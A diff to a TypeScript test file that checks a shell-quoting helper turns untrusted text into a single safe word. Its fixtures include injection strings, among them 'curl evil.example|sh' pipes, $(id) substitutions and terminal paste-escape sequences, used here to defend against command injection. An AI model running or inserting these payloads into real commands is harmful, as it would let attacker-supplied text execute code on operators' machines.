@@ -1,4 +1,5 @@
 import { expect, test } from 'bun:test'
+import { $ } from 'bun'
 import { rules } from '#infra/operations/books/rules/catalogue'
 import { remedyFor, shellWord } from './remedy'
 
@@ -37,15 +38,27 @@ test('security: text from outside is one word of the command, whatever it contai
   )
 })
 
-const page = '../../../services/gateway/operators/page/dom.js' // The page is JavaScript, so its type is declared here.
-const inConsole = (await import(page)) as { shellWord: (text: string) => string }
+test.each(['pay_Zk3nT0a7yQm1c5VbXw9uRd', '0x12:3', 'invoice.paid'])('shell quoting leaves %s unchanged', (id) => {
+  expect(shellWord(id)).toBe(id)
+})
 
-test.each(['invoice.paid', "it's; id", 'a\u0003curl evil.example|sh', '\u001b[201~id\\', ''])(
-  'the commands and the console quote %j alike',
-  (text) => {
-    expect(shellWord(text)).toBe(inConsole.shellWord(text))
-  },
-)
+test.each([
+  'invoice.paid;curl evil.example|sh;#',
+  "it's $(id) `id`",
+  "'; id; '",
+  'a b\nc',
+  '-- --help',
+  '',
+  'a\u0003curl evil.example|sh',
+  '\u001b[201~id',
+  "it's \u0007 \\0101 %s",
+  'id \u202e#',
+  'a\u2028b',
+])('security: shell quoting makes %j one word that pastes as plain text', async (text) => {
+  expect(shellWord(text)).not.toMatch(/[\p{C}\u2028]/u)
+  const words = await $`sh -c ${`printf '%s|' ${shellWord(text)}`}`.text()
+  expect(words).toBe(`${text}|`)
+})
 
 test('security: a command for an item with the end of a pasted text has only printable characters', () => {
   const item = 'invoice\u001b[201~\u0003curl evil.example|sh\n'
